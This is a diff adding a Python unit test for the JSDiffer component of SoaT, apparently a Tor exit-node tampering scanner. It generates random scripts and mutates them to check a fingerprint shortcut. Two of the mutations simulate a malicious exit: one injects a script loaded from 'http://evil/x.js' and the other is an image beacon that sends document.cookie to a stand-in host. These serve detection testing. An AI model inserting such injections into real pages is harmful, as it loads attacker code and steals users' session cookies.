@@ -0,0 +1,173 @@
+#!/usr/bin/env python
+# JSDiffer skips the parse when content lexes to a token stream it has
+# already found no differences in. Its answers must be the ones a full
+# parse and count gives, over random scripts and changes like those a
+# dynamic site or a tampering exit would make.
+
+import os
+import re
+import sys
+import random
+import unittest
+
+here = os.path.dirname(os.path.abspath(__file__))
+# soat finds its libraries relative to the working directory
+os.chdir(os.path.join(here, ".."))
+sys.path.insert(0, os.getcwd())
+sys.path.append(os.path.join(here, "../../.."))
+import soat
+import libsoat
+from libsoat import JSDiffer, JSSoupDiffer, FullyStrainedSoup
+from TorCtl import TorUtil
+
+IDENTS = ["data", "items", "count", "node", "widget", "config", "handler",
+          "result", "offset", "label", "value", "timer"]
+METHODS = ["push", "join", "setAttribute", "appendChild", "indexOf",
+           "replace", "toString", "getElementById"]
+
+def expr(rand, depth=0):
+  k = rand.randrange(depth < 2 and 7 or 3)
+  if k == 0:
+    return str(rand.randrange(1000))
+  elif k == 1:
+    return '"%s"' % rand.choice(IDENTS)
+  elif k == 2:
+    return rand.choice(IDENTS)
+  elif k == 3:
+    return "%s %s %s" % (expr(rand, depth+1), rand.choice("+-*<"),
+                         expr(rand, depth+1))
+  elif k == 4:
+    return "%s.%s(%s)" % (rand.choice(IDENTS), rand.choice(METHODS),
+                          expr(rand, depth+1))
+  elif k == 5:
+    return "[%s, %s]" % (expr(rand, depth+1), expr(rand, depth+1))
+  return "{%s: %s}" % (rand.choice(IDENTS), expr(rand, depth+1))
+
+def statement(rand, depth=0):
+  k = rand.randrange(depth < 2 and 6 or 3)
+  if k == 0:
+    return "var %s = %s;" % (rand.choice(IDENTS), expr(rand))
+  elif k == 1:
+    return "%s = %s;" % (rand.choice(IDENTS), expr(rand))
+  elif k == 2:
+    return "%s.%s(%s);" % (rand.choice(IDENTS), rand.choice(METHODS),
+                           expr(rand))
+  body = "\n  ".join([statement(rand, depth+1)
+                      for i in xrange(rand.randrange(1, 4))])
+  if k == 3:
+    return "function %s%d(%s) {\n  %s\n  return %s;\n}" % \
+           (rand.choice(IDENTS), rand.randrange(100), rand.choice(IDENTS),
+            body, expr(rand))
+  elif k == 4:
+    return "for (var i = 0; i < %d; i++) {\n  %s\n}" % \
+           (rand.randrange(100), body)
+  return "if (%s) {\n  %s\n} else {\n  %s;\n}" % \
+         (expr(rand), body, expr(rand))
+
+def script(rand, statements):
+  return "\n".join([statement(rand) for i in xrange(statements)])+"\n"
+
+STRING = re.compile(r'"[^"\\\n]{1,40}"')
+NUMBER = re.compile(r'\b\d+\b')
+
+def mutations(rand, s):
+  ''' (kind, changed script) for changes a dynamic page makes, then
+      changes an exit might '''
+  lines = s.split("\n")
+  k = rand.randrange(len(lines))
+  ident = rand.choice(IDENTS)
+  return [
+    ("same", s),
+    ("strings", STRING.sub(lambda m: '"%x"' % rand.getrandbits(32), s)),
+    ("numbers", NUMBER.sub(lambda m: str(rand.randrange(99999)), s)),
+    ("spacing", s.replace("\n", "\n  /* %d */ " % rand.randrange(9))
+                 .replace(";", " ;")),
+    ("rename", re.sub(r'\b%s\b' % ident, ident+"X", s)),
+    ("inject", s+"document.write('<script src=\"http://evil/x.js\"></script>');\n"),
+    ("inject_mid", "\n".join(lines[:k]+
+        ["var t = new Image(); t.src = 'http://e/?' + document.cookie;"]+
+        lines[k:])),
+    ("dropline", "\n".join(lines[:k]+lines[k+1:])),
+    ("truncate", s[:len(s)*rand.randrange(5, 95)/100]),
+    ("garbage", s[:len(s)/2]+"#@"+s[len(s)/2:]),
+  ]
+
+def full_parse(differ, content, method):
+  ''' what differ's method answers without the fingerprint check '''
+  cnts = differ._count_ast_elements(differ._lex_scripts(content))
+  if method == "contains_differences":
+    return differ._difference_checker(cnts)
+  return differ._difference_printer(cnts)
+
+def page(script, handler="init(1)"):
+  return "<html><head><script>%s</script></head>" \
+         "<body onload=\"%s\"><a href=\"javascript:go(2)\">x</a>" \
+         "</body></html>" % (script, handler)
+
+class JSDifferTest(unittest.TestCase):
+  def setUp(self):
+    TorUtil.loglevel = "ERROR"
+    self.rand = random.Random(20)
+
+  def check(self, differ, content):
+    ''' returns whether the fingerprint matched '''
+    fast = JSDiffer._fingerprint(differ._lex_scripts(content)) \
+           in differ.fingerprints
+    for method in ("contains_differences", "show_differences"):
+      self.assertEqual(getattr(differ, method)(content),
+                       full_parse(differ, content, method))
+    return fast
+
+  def test_agreement(self):
+    fast = 0
+    total = 0
+    for i in xrange(12):
+      s = script(self.rand, self.rand.randrange(4, 16))
+      differ = JSDiffer(s)
+      self.assertTrue(differ.fingerprints)
+      for (kind, m) in mutations(self.rand, s):
+        matched = self.check(differ, m)
+        if kind in ("same", "strings", "numbers", "spacing", "rename"):
+          self.assertTrue(matched, kind)
+        fast += matched
+        total += 1
+    # Most of the dynamic changes take the fast path
+    self.assertTrue(fast >= 12*5, fast)
+    self.assertTrue(fast < total)
+
+  def test_pruned(self):
+    # Pruned differences are learned as fingerprints too, as
+    # HtmlTestResult does with a second fetch
+    for i in xrange(6):
+      s = script(self.rand, self.rand.randrange(4, 12))
+      changes = mutations(self.rand, s)
+      differ = JSDiffer(s)
+      for (kind, m) in changes[-3:]:
+        differ.prune_differences(m)
+      for (kind, m) in mutations(self.rand, s)+changes:
+        self.check(differ, m)
+
+  def test_same_tokens_same_counts(self):
+    for i in xrange(12):
+      s = script(self.rand, self.rand.randrange(4, 16))
+      differ = JSDiffer(s)
+      for (kind, m) in mutations(self.rand, s):
+        scripts = differ._lex_scripts(m)
+        if JSDiffer._fingerprint(scripts) in differ.fingerprints:
+          self.assertEqual(differ._count_ast_elements(scripts),
+                           differ.ast_cnts)
+
+  def test_soup(self):
+    for i in xrange(5):
+      s = script(self.rand, self.rand.randrange(4, 12))
+      differ = JSSoupDiffer(FullyStrainedSoup(page(s)))
+      for (kind, m) in mutations(self.rand, s)[:5]:
+        self.assertTrue(self.check(differ, FullyStrainedSoup(page(m))), kind)
+        self.check(differ, FullyStrainedSoup(page(m)+"<script>x</script>"))
+      # Handlers are fingerprinted with the scripts
+      self.assertTrue(self.check(differ, FullyStrainedSoup(page(s, "init(7)"))))
+      self.assertFalse(self.check(differ,
+                                  FullyStrainedSoup(page(s, "init(1, 2)"))))
+
+if __name__ == '__main__':
+  unittest.main()